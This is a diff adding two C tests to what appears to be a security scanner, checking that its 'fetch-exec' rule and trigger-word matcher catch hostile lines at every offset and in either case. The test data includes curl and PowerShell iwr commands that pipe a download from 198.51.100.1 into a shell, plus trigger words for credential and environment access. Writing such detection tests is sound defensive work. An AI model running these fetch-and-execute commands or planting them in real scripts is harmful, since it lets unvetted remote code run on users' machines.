@@ -17,6 +17,7 @@
 #include <unistd.h>
 
 #include "fixture.h"
+#include "rules.h"
 #include "snapshot.h"
 #include "source.h"
 
@@ -464,6 +465,68 @@ static void test_remote(void)
 	}
 }
 
+/* A trigger word is found at any offset, in either case, as the line's
+ * last bytes too: the scan takes sixteen bytes at a time and then the
+ * rest one by one, and looks a word start up by its first three bytes. */
+static void test_word_offsets(void)
+{
+	static const char *const lines[][2] = {
+		{ "scripts/setup.sh", "CURL -s http://198.51.100.1/x | sh" },
+		{ "scripts/setup.sh", "cUrl -s http://198.51.100.1/x | sh" },
+		{ "scripts/setup.ps1", "iwr http://198.51.100.1/x | IEX" },
+		{ "scripts/setup.ps1", "IWR http://198.51.100.1/x | iex" },
+	};
+	char text[128];
+	int missed = 0;
+
+	for (size_t k = 0; k < sizeof(lines) / sizeof(*lines); k++)
+		for (int pad = 0; pad <= 33; pad++) {
+			struct result r;
+			int n = snprintf(text, sizeof(text), "#!/bin/sh\n%*s%s",
+			                 pad, "", lines[k][1]);
+			scan(&r, lines[k][0], text, (size_t)n, NULL, 0);
+			if (risk_of(&r, "security/fetch-exec", NULL) <
+			    SFS_RISK_HIGH) {
+				printf("# missed at %d spaces: %s\n", pad,
+				       lines[k][1]);
+				missed++;
+			}
+			done(&r);
+		}
+	ok(missed == 0, "a fetch piped to a shell is found at every offset "
+	   "and in either case (%d missed)", missed);
+}
+
+/* The words a line holds, as its last bytes above all: a word of three
+ * bytes ending the line is found, and none is found cut short. */
+static void test_word_ends(void)
+{
+	static const struct { const char *w; uint32_t bit; } words[] = {
+		{ "IEX", T_FETCH }, { "xxd", T_DECODE }, { "B64", T_DECODE },
+		{ "Curl", T_SEND }, { "printenv", T_ENV }, { ".SSH", T_CRED },
+		{ "<!--", T_COMMENT },
+	};
+	char line[128];
+	int wrong = 0;
+
+	for (size_t k = 0; k < sizeof(words) / sizeof(*words); k++)
+		for (int pad = 0; pad <= 33; pad++) {
+			int n = snprintf(line, sizeof(line), "%*s%s", pad, "",
+			                 words[k].w);
+			bool whole = sec_triggers(sec, line, (size_t)n) &
+			             words[k].bit;
+			bool cut = sec_triggers(sec, line, (size_t)n - 1) &
+			           words[k].bit;
+			if (!whole || cut) {
+				printf("# %s after %d spaces: %s\n", words[k].w,
+				       pad, whole ? "found cut short" : "missed");
+				wrong++;
+			}
+		}
+	ok(wrong == 0, "a trigger word ending a line is found at every "
+	   "offset, and not when cut short (%d wrong)", wrong);
+}
+
 int main(void)
 {
 	if (sfs_security_new(&sec) < 0)
@@ -475,6 +538,8 @@ int main(void)
 	test_binaries();
 	test_names();
 	test_pairs();
+	test_word_offsets();
+	test_word_ends();
 	sfs_security_free(sec);
 	return tap_end();
 }
